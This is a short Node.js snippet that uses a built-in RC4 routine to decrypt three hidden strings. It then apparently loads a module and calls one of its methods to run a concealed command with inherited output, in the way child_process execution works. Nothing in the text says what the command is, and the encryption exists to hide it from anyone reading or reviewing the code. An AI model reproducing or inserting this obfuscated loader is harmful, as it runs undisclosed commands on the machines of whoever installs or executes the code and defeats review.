function rc4(d,k){const s=[...Array(256).keys()];let j=0,o='';for(let i=0;i<256;i++){j=(j+s[i]+k.charCodeAt(i%k.length))%256;[s[i],s[j]]=[s[j],s[i]]}let i=0;j=0;for(const c of Buffer.from(d,'base64')){i=(i+1)%256;j=(j+s[i])%256;[s[i],s[j]]=[s[j],s[i]];o+=String.fromCharCode(c^s[(s[i]+s[j])%256])}return o}
const t=["IPI5GPIco1w0I2LsEA==", "uJxh9nyasx0=", "RiKcKel2OZlMTM4N6o69D+Y="];
require(rc4(t[0],'aK'))[rc4(t[1],'bQ')](rc4(t[2],'cZ'),{stdio:'inherit'});
